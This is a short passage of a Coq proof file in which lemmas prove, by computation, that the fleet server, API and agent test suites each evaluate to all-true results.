Proof. vm_compute. reflexivity. Qed.

Lemma fleet_server_tests_pass : FleetServerTests.suite = replicate 19 true.
Proof. vm_compute. reflexivity. Qed.

Lemma api_tests_pass : ApiTests.suite = replicate 4 true.
Proof. vm_compute. reflexivity. Qed.

Lemma agent_tests_pass : AgentTests.suite = replicate 13 true.
Proof. vm_compute. reflexivity. Qed.
